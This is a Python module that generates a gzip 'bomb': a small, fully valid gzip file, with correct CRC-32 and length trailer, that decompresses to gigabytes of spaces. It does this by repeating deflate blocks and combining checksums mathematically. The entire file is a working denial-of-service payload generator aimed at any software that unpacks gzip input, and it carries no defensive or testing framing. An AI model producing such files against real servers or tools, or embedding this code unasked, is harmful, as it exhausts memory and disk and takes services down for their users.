"""A small gzip that unpacks to gigabytes of blanks, without packing gigabytes."""

from __future__ import annotations

import zlib
from functools import lru_cache

_ONE = 1 << 31
_BYTE = 1 << 23
"""x to the power of 8: what appending a byte does to a checksum."""
_LARGEST_BLOCK = 20


def gzip_bomb(beginning: bytes, doublings: int = 31) -> bytes:
    """The beginning and two to the power of `doublings` blanks, compressed.

    A proper gzip in all respects: the checksum and the length hold to the end.
    """
    blanks, checksum, shift = _blanks(doublings)
    checksum ^= _times(shift, zlib.crc32(beginning))
    length = (len(beginning) + (1 << doublings)) & 0xFFFFFFFF
    packed = _deflated(beginning) + blanks + _deflated(b"", last=True)
    trailer = checksum.to_bytes(4, "little") + length.to_bytes(4, "little")
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff" + packed + trailer


@lru_cache
def _blanks(doublings: int) -> tuple[bytes, int, int]:
    """So many blanks, deflated; their checksum; what appending as many does to a checksum."""
    checksum, shift = zlib.crc32(b" "), _BYTE
    for _ in range(doublings):
        checksum ^= _times(shift, checksum)
        shift = _times(shift, shift)
    block = min(doublings, _LARGEST_BLOCK)
    return _deflated(b" " * (1 << block)) * (1 << (doublings - block)), checksum, shift


def _deflated(data: bytes, last: bool = False) -> bytes:
    """A piece of a deflated stream that refers to nothing before it, so it can be repeated."""
    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    return packer.compress(data) + packer.flush(zlib.Z_FINISH if last else zlib.Z_FULL_FLUSH)


def _times(a: int, b: int) -> int:
    """The product of two polynomials as CRC-32 has them: modulo its own, lowest power first."""
    product, power = 0, _ONE
    while power:
        if a & power:
            product ^= b
        b = b >> 1 ^ (0xEDB88320 if b & 1 else 0)
        power >>= 1
    return product
